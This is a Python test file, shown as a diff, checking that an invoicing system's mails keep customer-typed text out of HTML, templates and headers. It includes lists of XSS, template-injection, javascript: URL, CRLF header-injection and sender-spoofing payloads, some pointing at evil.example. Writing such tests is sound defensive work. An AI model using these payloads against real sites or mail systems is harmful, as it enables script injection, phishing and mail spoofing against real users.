@@ -1,0 +1,228 @@
+"""What people type stays text: nothing of it becomes markup, a header, or a template."""
+
+import json
+import sys
+import unicodedata
+from collections.abc import Callable
+from dataclasses import replace
+from html.parser import HTMLParser
+
+import pytest
+from bs4 import BeautifulSoup
+from hypothesis import given
+from hypothesis import strategies as st
+
+from invoicing.domain.addresses import Address, Customer, Person
+from invoicing.domain.errors import MailRejectedError
+from invoicing.domain.money import Money
+from invoicing.domain.offers import Discount, DiscountType, Line, ShippingLine
+from invoicing.domain.sales import Sale
+from invoicing.domain.stores import Market, Store, TaxRule
+from tests.unit.letters import LINES, NORWAY, PERSON, POST, SENDER, STORE, URL, read, rendered, sale_of
+
+KINDS = ["invoice", "reminder", "receipt"]
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "\"><svg onload=alert(1)>",
+    "' onmouseover='alert(1)",
+    "\" onmouseover=\"alert(1)\" x=\"",
+    "</title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "<!--<script>",
+    "--><script>alert(1)</script>",
+    "<![endif]--><img src=x>",
+    "]]><b>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content=0>",
+    "<form action=//evil.example><input name=card>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<style>*{display:none}</style>",
+    "<table><tr><td>",
+    "</td></tr></table></div></body></html>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;",
+    "{{ 7 * 7 }}",
+    "{% include 'mail/invoice.html' %}",
+    "{{ url.__class__.__mro__ }}",
+    "${7*7} #{7*7} %(total)s %s %",
+    "\\u003cscript\\u003e",
+    "\\\"},{\"@type\":\"Order",
+    "\u202etxt.exe",
+    "ﬁn ✓ 🧶 日本語 עברית",
+]
+
+Fields = tuple[Sale, Store, dict[str, str]]
+
+
+def line_with(**fields: object) -> Sale:
+    return sale_of(lines=(replace(LINES[0], **fields), *LINES[1:]))
+
+
+def billing_with(**fields: str) -> Sale:
+    written = {"name": "Kari Nordmann", "address1": "Bakkeveien 7", "country": "NO", "city": "Bergen", **fields}
+    return sale_of(person=Person(PERSON.customer, PERSON.shipping_address, Address(**written)))
+
+
+def discount(title: str) -> Discount:
+    return Discount(DiscountType.FIXED_AMOUNT, amount=Money(100, "NOK"), title=title)
+
+
+def tax(title: str) -> Market:
+    return replace(NORWAY, tax=TaxRule({"standard": 2500}, included=True, title=title))
+
+
+def shop(**fields: str) -> Fields:
+    return sale_of(), replace(STORE, **fields), {}
+
+
+# Every field that somebody types and a mail shows.
+TYPED: dict[str, Callable[[str], Fields]] = {
+    "title of a line": lambda text: (line_with(title=text), STORE, {}),
+    "title of a line's discount": lambda text: (line_with(discount=discount(text)), STORE, {}),
+    "title of the discount": lambda text: (sale_of(discount=discount(text)), STORE, {}),
+    "title of the delivery": lambda text: (sale_of(shipping_line=ShippingLine(text, POST.price)), STORE, {}),
+    "title of the tax": lambda text: (sale_of(market=tax(text)), STORE, {}),
+    "sku": lambda text: (line_with(sku=text), STORE, {}),
+    "customer": lambda text: (sale_of(person=replace(PERSON, customer=Customer(name=text))), STORE, {}),
+    "name on the address": lambda text: (billing_with(name=text), STORE, {}),
+    "company": lambda text: (billing_with(company=text), STORE, {}),
+    "street": lambda text: (billing_with(address1=text), STORE, {}),
+    "city": lambda text: (billing_with(city=text), STORE, {}),
+    "postal code": lambda text: (billing_with(postal_code=text), STORE, {}),
+    "shop": lambda text: shop(name=text),
+    "shop's address": lambda text: shop(address=text),
+    "shop's phone": lambda text: shop(phone=text),
+    "organisation number": lambda text: shop(organization_number=text),
+    "subject": lambda text: (sale_of(), STORE, {"subject": text}),
+    "message": lambda text: (sale_of(), STORE, {"message": text}),
+}
+
+
+class Elements(HTMLParser):
+    """The elements of a page in order, with those attributes that programs follow; comments; and all text."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.elements: list[object] = []
+        self.text = ""
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.elements.append((tag, [(name, value) for name, value in attrs if name != "aria-label"]))
+
+    def handle_endtag(self, tag: str) -> None:
+        self.elements.append(f"/{tag}")
+
+    def handle_comment(self, data: str) -> None:
+        self.elements.append("comment")
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+@pytest.mark.parametrize("field", TYPED)
+@pytest.mark.parametrize("kind", KINDS)
+def test_whatever_is_typed_is_shown_as_text_and_changes_no_element(kind, field):
+    made = TYPED[field]
+    sale, store, mail = made("harmless")
+    expected = Elements(read(kind, sale, store=store, **mail).html).elements
+    for payload in PAYLOADS:
+        sale, store, mail = made(payload)
+        html = read(kind, sale, store=store, **mail).html
+        assert Elements(html).elements == expected, payload
+        assert json.loads(html.partition('ld+json">')[2].partition("</script>")[0])["url"] == URL, payload
+
+
+@pytest.mark.parametrize("field", ["title of a line", "customer", "shop", "message"])
+def test_what_is_typed_is_shown_as_it_was_typed(field):
+    for payload in PAYLOADS:
+        sale, store, mail = TYPED[field](payload)
+        parts = read("invoice", sale, store=store, **mail)
+        assert payload in Elements(parts.html).text, payload
+        assert payload in parts.text, payload
+
+
+@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cc", "Cs", "Zl", "Zp"]), max_size=80))
+def test_any_text_at_all_leaves_the_elements_as_they_are(text):
+    line, _ = LINES
+    expected = Elements(read(sale=sale_of(lines=(line,))).html).elements
+    assert Elements(read(sale=sale_of(lines=(Line(text, 2, line.unit_price, sku=text),))).html).elements == expected
+
+
+@pytest.mark.parametrize("address", ["javascript:alert(1)", "data:text/html,<script>", "//evil.example", " https://x"])
+def test_terms_lead_only_to_the_web(address):
+    parts = read(store=replace(STORE, terms_url=address))
+    assert address not in parts.html
+    assert {a["href"] for a in BeautifulSoup(parts.html, "html.parser").find_all("a")} == {URL}
+
+
+def test_quotes_in_the_terms_address_stay_inside_the_attribute():
+    address = "https://example.com/\" onmouseover=\"alert(1)"
+    links = BeautifulSoup(read(store=replace(STORE, terms_url=address)).html, "html.parser").find_all("a")
+    assert (links[-1]["href"], "onmouseover" in links[-1].attrs) == (address, False)
+
+
+# --- headers ----------------------------------------------------------------------------------------------------------
+
+CONTROLS = [chr(i) for i in range(sys.maxunicode + 1) if unicodedata.category(chr(i)) in {"Cc", "Zl", "Zp"}]
+HEADERS: dict[str, Callable[[str], dict]] = {
+    "subject": lambda text: {"subject": text},
+    "to": lambda text: {"to": f"kari{text}@example.com"},
+    "domain": lambda text: {"to": f"kari@example{text}.com"},
+    "bcc": lambda text: {"bcc": f"ingrid{text}@example.com"},
+    "shop": lambda text: {"store": replace(STORE, name=f"Fjell{text}")},
+    "reply-to": lambda text: {"store": replace(STORE, email=f"hei{text}@example.com")},
+    "sender": lambda text: {"sender": f"shop{text}@example.com"},
+}
+
+
+def test_the_controls_are_all_there():
+    assert {"\r", "\n", "\x00", "\x1b", "\x7f", "\x85", "\u2028", "\u2029"} < set(CONTROLS)
+    assert len(CONTROLS) == 67
+
+
+@pytest.mark.parametrize("header", HEADERS)
+def test_no_control_character_gets_into_a_header(header):
+    for control in CONTROLS:
+        with pytest.raises(MailRejectedError, match="control character"):
+            rendered(**HEADERS[header](control))
+
+
+@pytest.mark.parametrize("header", HEADERS)
+def test_no_header_is_added_by_way_of_another(header):
+    with pytest.raises(MailRejectedError):
+        rendered(**HEADERS[header]("\r\nBcc: everybody@example.com"))
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "",
+        "kari",
+        "@example.com",
+        "kari@",
+        "kari@example.com, ola@example.com",
+        "Kari <kari@example.com>",
+        "k ari@example.com",
+        "kåri@example.com",
+    ],
+)
+def test_what_is_not_one_address_is_not_written_to(address):
+    with pytest.raises(MailRejectedError):
+        rendered(to=address)
+
+
+def test_a_name_in_front_of_the_sender_cannot_become_another_address():
+    for name in ('Kari" <evil@example.com>', "Kari <evil@example.com>", "a@b.example, c", "Kari (evil@example.com)"):
+        content = rendered(store=replace(STORE, name=name)).content
+        sender = next(line for line in content.splitlines() if line.startswith(b"From:"))
+        assert SENDER.encode() in sender + content.splitlines()[1]
+
+
+def test_a_subject_longer_than_a_line_is_folded_and_read_whole():
+    subject = "Øvelse gjør mester, og det tar tid " * 20
+    assert read(subject=subject.strip()).subject == subject.strip()
